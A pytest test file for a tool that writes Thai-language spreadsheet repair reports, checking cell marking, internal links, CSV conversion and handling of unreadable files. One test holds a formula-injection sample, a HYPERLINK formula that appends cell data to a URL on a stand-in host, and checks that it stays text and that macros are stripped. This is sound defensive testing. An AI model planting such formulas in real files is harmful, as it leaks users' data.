"""The repair report shows an officer where to correct, and carries nothing that could run."""

import zipfile
from pathlib import Path

import openpyxl
import pytest
from tests.shared import SHARED, needs_cases

from prasan.exchange.reading import read_file
from prasan.exchange.reading.records import Finding
from prasan.exchange.repair import LIST_SHEET, write_repair_report

pytestmark = [pytest.mark.cases, needs_cases]
BAD = SHARED / "cases" / "bad_inputs_open"
RED, YELLOW = "00FFC7CE", "00FFEB9C"


def report(name: str, folder: Path) -> tuple[list[Finding], openpyxl.Workbook]:
    output = folder / "ซ่อม.xlsx"
    reading = read_file(BAD / name)
    write_repair_report(BAD / name, reading, output)
    return reading.findings, openpyxl.load_workbook(output)


def test_marked_cells_are_coloured_by_gravity_and_say_why(tmp_path: Path) -> None:
    findings, book = report("04_ref_errors.xlsx", tmp_path)
    sheet = book["ผ.02"]
    errors = [f for f in findings if f.kind == "error_value"]
    assert {f.cell for f in errors} == {"E11", "F12", "G13", "H14", "I16"}
    for finding in errors:
        cell = sheet[finding.cell]
        assert cell.fill.fgColor.rgb == {"error": RED, "warning": YELLOW}[finding.severity]
        assert finding.message_th in cell.comment.text
    assert sheet["E11"].value == "#REF!"
    assert sheet["E11"].data_type == "s"
    assert sheet["E15"].comment is None


def test_the_first_sheet_lists_every_finding_with_a_link_inside_the_file(tmp_path: Path) -> None:
    findings, book = report("05_negative_amount.xlsx", tmp_path)
    listing = book.worksheets[0]
    assert listing.title == LIST_SHEET
    rows = list(listing.iter_rows(min_row=4, values_only=True))
    assert len(rows) == len(findings)
    assert {row[5] for row in rows} == {finding.message_th for finding in findings}
    links = [cell.hyperlink for row in listing.iter_rows(min_row=4) for cell in row if cell.hyperlink]
    assert len(links) == len(findings)
    assert all(link.target is None and link.location.startswith("'ผ.02'!") for link in links)


def test_a_range_is_marked_as_a_whole(tmp_path: Path) -> None:
    _, book = report("03_merged_data_cells.xlsx", tmp_path)
    assert book["ผ.02"]["E17"].comment is not None
    assert "E17:I17" in {str(merged) for merged in book["ผ.02"].merged_cells.ranges}


def test_formula_like_text_stays_text_and_macros_do_not_come_along(tmp_path: Path) -> None:
    _, book = report("16_formula_injection.xlsx", tmp_path)
    cell = book["ผ.02"]["B11"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://example.invalid/?x="&B2,"รายละเอียด")', "s")
    formulas = [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    report("15_macro_enabled.xlsm", tmp_path)
    with zipfile.ZipFile(tmp_path / "ซ่อม.xlsx") as parts:
        assert not [name for name in parts.namelist() if "vba" in name.lower() or "externalLink" in name]


def test_a_csv_becomes_a_workbook(tmp_path: Path) -> None:
    findings, book = report("10_cp874.csv", tmp_path)
    assert len(book.worksheets) == 2
    assert book.worksheets[1].max_row == 11
    assert [row[6] for row in book.worksheets[0].iter_rows(min_row=4, values_only=True)] == [f.kind for f in findings]


@pytest.mark.parametrize(
    "name", ["01_wrong_sheet.xlsx", "12_xls_renamed.xlsx", "14_password_protected.xlsx", "18_zip_bomb.xlsx"]
)
def test_a_file_that_cannot_be_opened_still_gets_its_list(tmp_path: Path, name: str) -> None:
    findings, book = report(name, tmp_path)
    assert book.worksheets[0].max_row == 3 + len(findings)


def test_200_000_empty_rows_do_not_make_a_large_report(tmp_path: Path) -> None:
    _, book = report("17_200k_empty_rows.xlsx", tmp_path)
    assert book["ผ.02"].max_row < 100
    assert (tmp_path / "ซ่อม.xlsx").stat().st_size < 100_000
